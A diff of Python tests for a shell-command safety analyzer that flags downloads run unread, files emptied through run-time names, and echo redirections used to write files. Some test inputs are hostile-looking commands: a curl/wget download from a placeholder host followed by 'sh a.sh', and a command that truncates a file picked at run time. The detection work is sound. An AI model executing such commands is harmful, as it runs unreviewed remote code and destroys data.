@@ -44,3 +44,17 @@ def test_an_alias_given_words_computed_at_run_time_asks_naming_the_alias():
 def test_running_the_first_of_two_downloads_asks():
     verdict = analyze("curl -o a.sh https://x.example/a; wget -O b.sh https://x.example/b; sh a.sh")
     assert verdict.deletions == ["it runs a.sh, downloaded by the same command: code nobody has read"]
+
+
+def test_emptying_a_file_named_at_run_time_asks():
+    assert analyze(': > "$(ls -t | head -1)"').deletions == ["the redirection empties a file named at run time"]
+
+
+def test_appending_nothing_to_a_file_runs():
+    assert analyze("true >> log").deletions == []
+    assert analyze("true &>> log").deletions == []
+
+
+def test_echo_into_a_file_after_other_redirections_is_the_write_tools_job():
+    for command in ("echo hi &> notes.txt", "echo hi &>> notes.txt", "echo hi 2>/dev/null > notes.txt"):
+        assert analyze(command).file_ops == ["writing files with echo > notes.txt: use Write (or Edit)"], command
